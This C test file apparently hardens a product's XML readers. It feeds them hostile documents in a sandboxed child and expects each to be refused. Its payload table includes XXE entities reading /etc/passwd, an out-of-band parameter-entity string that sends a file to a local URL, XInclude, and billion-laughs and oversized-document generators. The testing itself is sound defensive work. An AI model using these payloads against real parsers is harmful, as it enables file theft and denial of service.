/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Hostile XML for both readers, the configuration's and the RunAs list's: each document is read in a
 * child that has one second of processor time, 32 MiB of address space more than it starts with, and is
 * killed if it opens a file or a socket (T21). All are refused, with a line and a reason.
 */
#include "runas/config.h"
#include "tests/lib/unit.h"
#include <fcntl.h>
#include <seccomp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/wait.h>
#include <unistd.h>

#define GROWTH  (32u << 20)
#define DOC_MAX (64u << 20)

/* The two good documents, cut where hostile parts go: open tag, extra attributes, children. */
struct shape {
	const char *open, *child, *text_open, *text_close, *close;
};
static const struct shape shapes[2] = {
    {"<Message managementGroup=\"a\" agent=\"b\" version=\"1\" fencing=\"1\"", "<State>", "<SecureData>",
     "</SecureData>", "</State></Message>"},
    {"<RunAs group=\"a\" agent=\"b\" "
     "recipient=\"0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef\" version=\"1\"",
     "", "<Account id=\"0123456789abcdef0123456789abcdef\" version=\"1\" type=\"simple\" name=\"n\">",
     "</Account>", "</RunAs>"},
};

static clv_rc take(const struct runas_account *a, const struct clv_secret *password, void *ctx,
                   struct clv_err *err)
{
	(void)a;
	(void)password;
	(void)ctx;
	(void)err;
	return CLV_OK;
}

static bool read_config(struct clv_slice xml, struct clv_err *err)
{
	struct config_association *list = NULL;
	struct config_head head;
	struct clv_buf der;
	size_t n = 0;
	bool good;

	buf_init(&der, CONFIG_XML_MAX);
	good = config_read(xml, &head, &list, &n, &der, err) == CLV_OK;
	clv_free(list);
	buf_release(&der);
	return good;
}

/* A list comes as a secret, which holds no more than CLV_SECRET_MAX: that is its first limit. */
static bool read_list(struct clv_slice xml, struct clv_err *err)
{
	struct clv_secret *s = secret_new(CLV_SECRET_MAX, err);
	struct runas_head head;
	bool good = s && !secret_append(s, xml.ptr, xml.len, err) && !runas_read(s, &head, take, NULL, err);

	secret_free(s);
	return good;
}

static void limit_self(void)
{
	const struct rlimit cpu = {1, 1};
	scmp_filter_ctx c = seccomp_init(SCMP_ACT_ALLOW);
	const int calls[] = {SCMP_SYS(open), SCMP_SYS(openat), SCMP_SYS(socket), SCMP_SYS(connect),
	                     SCMP_SYS(execve)};

#if !defined(__SANITIZE_ADDRESS__) && !defined(CLV_ASAN)
	unsigned long pages = 0;
	FILE *f = fopen("/proc/self/statm", "r");
	struct rlimit room;

	if (f == NULL || fscanf(f, "%lu", &pages) != 1 || fclose(f) != 0)
		_exit(3);
	room.rlim_cur = room.rlim_max = pages * (rlim_t)sysconf(_SC_PAGESIZE) + GROWTH;
	if (setrlimit(RLIMIT_AS, &room) != 0)
		_exit(3);
#endif
	if (setrlimit(RLIMIT_CPU, &cpu) != 0 || c == NULL)
		_exit(3);
	for (size_t i = 0; i < sizeof calls / sizeof calls[0]; i++)
		if (seccomp_rule_add(c, SCMP_ACT_KILL_PROCESS, calls[i], 0) != 0)
			_exit(3);
	if (seccomp_load(c) != 0)
		_exit(3);
}

enum outcome { REFUSED, TAKEN, DIED };

static enum outcome in_child(int which, struct clv_slice xml)
{
	struct clv_err err = {0};
	int status = 0;
	pid_t pid = fork();

	assert_true(pid >= 0);
	if (pid == 0) {
		limit_self();
		if (which == 0 ? read_config(xml, &err) : read_list(xml, &err))
			_exit(1);
		_exit((err.code == CLV_E_PROTO || err.code == CLV_E_LIMIT) && err.text[0] ? 0 : 2);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		return REFUSED;
	return WIFEXITED(status) && WEXITSTATUS(status) == 1 ? TAKEN : DIED;
}

/* Where in the good document a hostile part goes; %-free text, so that nothing is interpreted. */
struct row {
	const char *name, *prolog, *attrs, *child, *before, *text, *after, *epilog;
};
#define ROW_PROLOG(n, p)                   \
	{                                  \
		.name = (n), .prolog = (p) \
	}
#define ROW_ATTRS(n, a)                   \
	{                                 \
		.name = (n), .attrs = (a) \
	}
#define ROW_CHILD(n, c)                   \
	{                                 \
		.name = (n), .child = (c) \
	}
#define ROW_TEXT(n, t)                   \
	{                                \
		.name = (n), .text = (t) \
	}
#define ROW_EPILOG(n, e)                   \
	{                                  \
		.name = (n), .epilog = (e) \
	}

static const struct row rows[] = {
    ROW_PROLOG("doctype", "<!DOCTYPE a>"),
    ROW_PROLOG("doctype with a name space", "<!DOCTYPE x:a>"),
    ROW_PROLOG("doctype in lower case", "<!doctype a>"),
    ROW_PROLOG("doctype after a comment", "<!-- x --><!DOCTYPE a>"),
    ROW_PROLOG("doctype after line ends", "\n\n\r\n\t <!DOCTYPE\na>"),
    ROW_PROLOG("system identifier", "<!DOCTYPE a SYSTEM \"file:///etc/passwd\">"),
    ROW_PROLOG("system identifier of a network", "<!DOCTYPE a SYSTEM \"http://127.0.0.1:1/x.dtd\">"),
    ROW_PROLOG("public identifier", "<!DOCTYPE a PUBLIC \"-//x//y\" \"http://127.0.0.1:1/\">"),
    ROW_PROLOG("empty internal subset", "<!DOCTYPE a []>"),
    ROW_PROLOG("internal entity", "<!DOCTYPE a [<!ENTITY e \"AAAA\">]>"),
    ROW_PROLOG("external entity", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"),
    ROW_PROLOG("external entity, relative", "<!DOCTYPE a [<!ENTITY e SYSTEM \"passwd\">]>"),
    ROW_PROLOG("external entity of a network", "<!DOCTYPE a [<!ENTITY e SYSTEM \"http://127.0.0.1:1/\">]>"),
    ROW_PROLOG("public external entity", "<!DOCTYPE a [<!ENTITY e PUBLIC \"x\" \"file:///dev/zero\">]>"),
    ROW_PROLOG("unparsed entity",
               "<!DOCTYPE a [<!NOTATION n SYSTEM \"x\"><!ENTITY e SYSTEM \"y\" NDATA n>]>"),
    ROW_PROLOG("parameter entity", "<!DOCTYPE a [<!ENTITY % p \"<!ENTITY e 'x'>\">%p;]>"),
    ROW_PROLOG("external parameter entity", "<!DOCTYPE a [<!ENTITY % p SYSTEM \"file:///etc/passwd\">%p;]>"),
    ROW_PROLOG(
        "parameter entity that sends a file",
        "<!DOCTYPE a [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % p \"<!ENTITY &#37; s SYSTEM "
        "'http://127.0.0.1:1/?%f;'>\">%p;%s;]>"),
    ROW_PROLOG("entity that names itself", "<!DOCTYPE a [<!ENTITY e \"&e;\">]>"),
    ROW_PROLOG("default attributes", "<!DOCTYPE a [<!ATTLIST State x CDATA \"y\">]>"),
    ROW_PROLOG("element declaration", "<!DOCTYPE a [<!ELEMENT a ANY>]>"),
    ROW_PROLOG("doctype twice", "<!DOCTYPE a><!DOCTYPE b>"),
    ROW_PROLOG("doctype without an end", "<!DOCTYPE a ["),
    ROW_PROLOG("processing instruction", "<?php echo 1 ?>"),
    ROW_PROLOG("style sheet", "<?xml-stylesheet href=\"http://127.0.0.1:1/\"?>"),
    ROW_PROLOG("declaration twice", "<?xml version=\"1.0\"?><?xml version=\"1.0\"?>"),
    ROW_PROLOG("declaration not first", " <?xml version=\"1.0\"?>"),
    ROW_PROLOG("XML 1.1", "<?xml version=\"1.1\"?>"),
    ROW_PROLOG("XML 2.0", "<?xml version=\"2.0\"?>"),
    ROW_PROLOG("declared latin-1", "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>"),
    ROW_PROLOG("declared windows-1252", "<?xml version=\"1.0\" encoding=\"windows-1252\"?>"),
    ROW_PROLOG("declared UTF-16", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>"),
    ROW_PROLOG("declared UTF-7", "<?xml version=\"1.0\" encoding=\"UTF-7\"?>"),
    ROW_PROLOG("declared EBCDIC", "<?xml version=\"1.0\" encoding=\"IBM037\"?>"),
    ROW_PROLOG("declared US-ASCII", "<?xml version=\"1.0\" encoding=\"US-ASCII\"?>"),
    ROW_PROLOG("declared nonsense", "<?xml version=\"1.0\" encoding=\"../../etc/passwd\"?>"),
    ROW_PROLOG("byte order mark twice", "\xef\xbb\xbf\xef\xbb\xbf"),
    ROW_PROLOG("text before the root", "x"),
    ROW_PROLOG("another root first", "<a/>"),
    ROW_PROLOG("comment without an end", "<!-- "),
    ROW_PROLOG("double dash in a comment", "<!-- -- -->"),
    ROW_PROLOG("CDATA before the root", "<![CDATA[x]]>"),
    ROW_PROLOG("conditional section", "<![INCLUDE[x]]>"),
    ROW_ATTRS("unknown attribute", " x=\"y\""),
    ROW_ATTRS("attribute twice", " version=\"1\""),
    ROW_ATTRS("attribute in another case", " Version=\"1\""),
    ROW_ATTRS("default name space", " xmlns=\"urn:x\""),
    ROW_ATTRS("name space with a prefix", " xmlns:x=\"urn:x\""),
    ROW_ATTRS("schema location", " xsi:schemaLocation=\"a http://127.0.0.1:1/\""),
    ROW_ATTRS("base", " xml:base=\"file:///etc/\""),
    ROW_ATTRS("attribute without quotes", " x=y"),
    ROW_ATTRS("attribute without a value", " x"),
    ROW_ATTRS("less-than in an attribute", " x=\"<\""),
    ROW_ATTRS("entity in an attribute", " x=\"&e;\""),
    ROW_ATTRS("character 0 by reference", " x=\"&#0;\""),
    ROW_CHILD("unknown element", "<x/>"),
    ROW_CHILD("known element in another case", "<STATE/><account/>"),
    ROW_CHILD("the root inside itself", "<Message/>"),
    ROW_CHILD("the list's root inside", "<RunAs/>"),
    ROW_CHILD("prefixed element", "<x:State xmlns:x=\"\"/>"),
    ROW_CHILD("XInclude", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"/etc/passwd\"/>"),
    ROW_CHILD("text between elements", "x"),
    ROW_CHILD("CDATA between elements", "<![CDATA[ ]]>"),
    ROW_CHILD("entity between elements", "&e;"),
    ROW_CHILD("blank by an unusual space", "\xc2\xa0"),
    ROW_CHILD("processing instruction inside", "<?x y?>"),
    ROW_CHILD("end that was not begun", "</x>"),
    ROW_CHILD("doctype inside", "<!DOCTYPE a>"),
    ROW_TEXT("CDATA as text", "<![CDATA[AAAA]]>"),
    ROW_TEXT("CDATA splits the text", "AA<![CDATA[AA]]>"),
    ROW_TEXT("comment splits the text", "AA<!-- x -->AA"),
    ROW_TEXT("CDATA end in a text", "AAAA]]>"),
    ROW_TEXT("unknown entity in a text", "&e;"),
    ROW_TEXT("character 0 by reference in a text", "AAA&#0;"),
    ROW_TEXT("character beyond Unicode", "AAA&#x110000;"),
    ROW_TEXT("surrogate by reference", "AAA&#xD800;"),
    ROW_TEXT("huge reference", "AAA&#99999999999999999999;"),
    ROW_TEXT("blank in base64", "AA AA"),
    ROW_TEXT("line end in base64", "AAAA\n"),
    ROW_TEXT("URL alphabet", "AA_-"),
    ROW_TEXT("padding inside", "A=AA"),
    ROW_TEXT("unused bits", "AAB="),
    ROW_TEXT("nothing", ""),
    ROW_TEXT("element in a text", "AAAA<x/>"),
    ROW_TEXT("invalid UTF-8", "AAA\xff"),
    ROW_TEXT("overlong UTF-8", "AA\xc1\x81"),
    ROW_TEXT("overlong less-than", "AA\xc0\xbc"),
    ROW_TEXT("surrogate in UTF-8", "A\xed\xa0\x80"),
    ROW_TEXT("non-character", "A\xef\xbf\xbf"),
    ROW_TEXT("control character", "AAA\x01"),
    ROW_EPILOG("second root", "<x/>"),
    ROW_EPILOG("text after the root", "x"),
    ROW_EPILOG("doctype after the root", "<!DOCTYPE a>"),
    ROW_EPILOG("processing instruction after the root", "<?x?>"),
    ROW_EPILOG("comment without an end after the root", "<!--"),
    ROW_EPILOG("character 0x1a", "\x1a"),
};

static void put(struct clv_buf *b, const char *text)
{
	if (text != NULL)
		assert_int_equal(buf_put(b, slice_str(text), NULL), CLV_OK);
}

static void document(struct clv_buf *b, const struct shape *s, const struct row *r)
{
	put(b, r->prolog);
	put(b, s->open);
	put(b, r->attrs);
	put(b, ">");
	put(b, r->child);
	put(b, s->child);
	put(b, s->text_open);
	put(b, r->before);
	put(b, r->text ? r->text : "AAAA");
	put(b, r->after);
	put(b, s->text_close);
	put(b, s->close);
	put(b, r->epilog);
}

static size_t refused;

static void expect_refused(const char *name, int which, struct clv_slice xml)
{
	static const char *const words[] = {"refused", "taken", "ended by a limit"};
	enum outcome o = in_child(which, xml);

	if (o != REFUSED)
		fail_msg("%s, reader %d: %s", name, which, words[o]);
	refused++;
}

static void good_documents_are_taken(void **state)
{
	static const struct row good[] = {
	    {.name = "plain"},
	    {.name = "declared", .prolog = "<?xml version=\"1.0\" encoding=\"utf-8\" standalone=\"yes\"?>\n"},
	    {.name = "marked", .prolog = "\xef\xbb\xbf"},
	    {.name = "blank", .prolog = "\n<!-- x -->\n", .child = "\r\n\t ", .epilog = "\n<!-- y -->\n"},
	};
	struct clv_buf b;

	(void)state;
	buf_init(&b, DOC_MAX);
	for (size_t i = 0; i < sizeof good / sizeof good[0]; i++)
		for (int which = 0; which < 2; which++) {
			buf_clear(&b);
			document(&b, &shapes[which], &good[i]);
			if (in_child(which, buf_slice(&b)) != TAKEN)
				fail_msg("%s, reader %d: not taken", good[i].name, which);
		}
	buf_release(&b);
}

static void hostile_documents_are_refused(void **state)
{
	struct clv_buf b;

	(void)state;
	buf_init(&b, DOC_MAX);
	refused = 0;
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++)
		for (int which = 0; which < 2; which++) {
			buf_clear(&b);
			document(&b, &shapes[which], &rows[i]);
			expect_refused(rows[i].name, which, buf_slice(&b));
		}
	printf("      %zu hostile forms, %zu documents refused\n", sizeof rows / sizeof rows[0], refused);
	assert_true(sizeof rows / sizeof rows[0] >= 60);
	buf_release(&b);
}

static void repeat(struct clv_buf *b, const char *text, size_t bytes)
{
	size_t n = strlen(text);

	for (size_t i = 0; i + n <= bytes; i += n)
		put(b, text);
}

static void numbered(struct clv_buf *b, const char *before, const char *after, size_t n)
{
	for (size_t i = 0; i < n; i++)
		assert_int_equal(buf_printf(b, NULL, "%s%zu%s", before, i, after), CLV_OK);
}

/* Documents that are large, deep or many of something: name, and what fills them. */
static void large(struct clv_buf *b, const struct shape *s, unsigned which, size_t bytes)
{
	struct row r = {.name = ""};

	put(b, which == 0 ? "<!DOCTYPE a [<!ENTITY a0 \"lol\">" : "");
	if (which == 0) { /* a billion laughs */
		for (unsigned i = 1; i < 10; i++) {
			assert_int_equal(buf_printf(b, NULL, "<!ENTITY a%u \"", i), CLV_OK);
			for (unsigned k = 0; k < 10; k++)
				assert_int_equal(buf_printf(b, NULL, "&a%u;", i - 1), CLV_OK);
			put(b, "\">");
		}
		put(b, "]>");
		r.text = "&a9;";
		document(b, s, &r);
		return;
	}
	if (which == 1) { /* one entity, often */
		put(b, "<!DOCTYPE a [<!ENTITY e \"");
		repeat(b, "A", bytes / 2);
		put(b, "\">]>");
		document(b, s, &r);
		return;
	}
	put(b, which == 2 ? "<!-- " : which == 3 ? "<?x " : which == 4 ? "<" : which == 5 ? " " : "");
	if (which <= 5) { /* a comment, an instruction, a name, blanks that never end */
		repeat(b, "x", which == 5 ? 0 : bytes);
		repeat(b, " ", which == 5 ? bytes : 0);
		return;
	}
	put(b, s->open);
	if (which == 6) { /* many attributes */
		numbered(b, " a", "=\"\"", bytes / 12);
	} else if (which == 7) { /* a long attribute */
		put(b, " x=\"");
		repeat(b, "&amp;", bytes);
		put(b, "\"");
	} else if (which == 8) { /* a long attribute name */
		put(b, " ");
		repeat(b, "n", bytes);
		put(b, "=\"\"");
	}
	put(b, ">");
	if (which == 9) /* depth */
		repeat(b, "<x>", bytes);
	else if (which == 10) /* depth of what is known */
		repeat(b, s->child[0] ? s->child : s->text_open, bytes);
	else if (which == 11) /* too many of what is known */
		repeat(b, s->child[0] ? "<State></State>" : "<Account/>", bytes);
	put(b, s->child);
	put(b, s->text_open);
	if (which == 12) /* a long text */
		repeat(b, "AAAA", bytes);
	else if (which == 13) /* references */
		repeat(b, "&#65;", bytes);
	else if (which == 14) /* CDATA */
		repeat(b, "<![CDATA[A]]>", bytes);
	put(b, s->text_close);
	put(b, s->close);
	if (which == 15)
		repeat(b, " ", bytes);
}

static void large_documents_are_refused(void **state)
{
	static const size_t sizes[] = {300000, 460000, 2000000, 16000000};
	struct clv_buf b;

	(void)state;
	buf_init(&b, DOC_MAX);
	refused = 0;
	for (unsigned which = 0; which <= 15; which++)
		for (size_t i = 0; i < sizeof sizes / sizeof sizes[0]; i++)
			for (int reader = 0; reader < 2; reader++) {
				char name[64];

				/* Below the limits these are good: a long text in a configuration, blanks. */
				if (i < 2 && (which == 15 || (reader == 0 && (which == 12 || which == 13))))
					continue;
				if (i == 0 && which == 13)
					continue;
				(void)snprintf(name, sizeof name, "large %u of %zu", which, sizes[i]);
				buf_clear(&b);
				large(&b, &shapes[reader], which, sizes[i]);
				expect_refused(name, reader, buf_slice(&b));
			}
	printf("      %zu large documents refused, up to %zu bytes\n", refused, sizes[3]);
	buf_release(&b);
}

/* The good document in another encoding. */
static void encode(struct clv_buf *out, struct clv_slice in, unsigned how)
{
	static const char *const marks[] = {"\xff\xfe",     "\xfe\xff",     "",    "",
	                                    "\xff\xfe\0\0", "\0\0\xfe\xff", "+/v8"};
	static const size_t mark_len[] = {2, 2, 0, 0, 4, 4, 4};

	assert_int_equal(buf_put(out, slice_of(marks[how], mark_len[how]), NULL), CLV_OK);
	for (size_t i = 0; i < in.len; i++) {
		uint8_t wide[4] = {0};
		size_t n = how < 4 ? 2 : how < 6 ? 4 : 1;

		wide[how % 2 ? n - 1 : 0] = in.ptr[i];
		assert_int_equal(buf_put(out, slice_of(wide, n), NULL), CLV_OK);
	}
}

static void other_encodings_are_refused(void **state)
{
	static const struct row plain = {.name = ""};
	struct clv_buf good, b;

	(void)state;
	buf_init(&good, DOC_MAX);
	buf_init(&b, DOC_MAX);
	refused = 0;
	for (int which = 0; which < 2; which++) {
		struct clv_slice s;

		buf_clear(&good);
		document(&good, &shapes[which], &plain);
		s = buf_slice(&good);
		for (unsigned how = 0; how < 7; how++) {
			buf_clear(&b);
			encode(&b, s, how);
			expect_refused("another encoding", which, buf_slice(&b));
		}
		for (size_t at = 0; at <= s.len; at += 11) { /* a 0 byte here and there */
			buf_clear(&b);
			assert_int_equal(buf_put(&b, slice_of(s.ptr, at), NULL), CLV_OK);
			assert_int_equal(buf_put_u8(&b, 0, NULL), CLV_OK);
			assert_int_equal(buf_put(&b, slice_of(s.ptr + at, s.len - at), NULL), CLV_OK);
			expect_refused("a zero byte", which, buf_slice(&b));
		}
		buf_clear(&b);
		for (size_t i = 0; i < s.len; i++) /* as EBCDIC has its letters: all above 0x80 */
			assert_int_equal(buf_put_u8(&b, s.ptr[i] | 0x80, NULL), CLV_OK);
		expect_refused("high bytes", which, buf_slice(&b));
	}
	printf("      %zu documents in other encodings and with zero bytes refused\n", refused);
	buf_release(&good);
	buf_release(&b);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(good_documents_are_taken),
	    cmocka_unit_test(hostile_documents_are_refused),
	    cmocka_unit_test(large_documents_are_refused),
	    cmocka_unit_test(other_encodings_are_refused),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
